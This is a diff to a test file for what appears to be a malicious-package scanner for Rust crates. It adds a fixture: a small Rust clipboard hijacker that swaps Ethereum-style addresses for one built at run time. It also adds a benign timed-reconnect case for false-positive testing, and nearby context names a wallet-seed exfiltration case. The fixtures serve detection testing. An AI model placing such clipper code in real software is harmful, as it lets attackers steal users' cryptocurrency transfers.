@@ -92,6 +92,20 @@ const MALICIOUS: Case[] = [
     }),
   },
   {
+    name: 'a clipper with cli_clipboard free functions and an address regex (the address is built at run time)',
+    rule: 'code.clipboard-hijack',
+    files: lib('cli-paste', {
+      'src/lib.rs': src(
+        'pub fn watch_once() {',
+        '    let re = regex::Regex::new(r"^0x[a-fA-F0-9]{40}$").unwrap();',
+        '    if let Ok(cur) = cli_clipboard::get_contents() {',
+        '        if re.is_match(&cur) { let _ = cli_clipboard::set_contents(format!("0x{}", "00".repeat(20))); }',
+        '    }',
+        '}',
+      ),
+    }),
+  },
+  {
     name: 'a wallet seed from the environment rides in a JSON-RPC body through reqwest',
     rule: 'flow.exfiltration',
     files: lib('chain-fees', {
@@ -181,6 +195,19 @@ const MALICIOUS: Case[] = [
 ];
 
 const BENIGN: Case[] = [
+  {
+    name: 'a reconnect after a timeout measured by a clock helper (not a date gate)',
+    atMost: 'medium',
+    files: lib('reconnect', {
+      'src/lib.rs': src(
+        'static START: std::sync::OnceLock<std::time::Instant> = std::sync::OnceLock::new();',
+        'fn elapsed_ms() -> u128 { START.get_or_init(std::time::Instant::now).elapsed().as_millis() }',
+        'pub fn poll(addr: &str) {',
+        '    if elapsed_ms() > 20_000 { let _ = std::net::TcpStream::connect(addr); }',
+        '}',
+      ),
+    }),
+  },
   {
     name: 'a JIT maps executable pages for code it compiles from the caller’s input',
     atMost: 'medium',
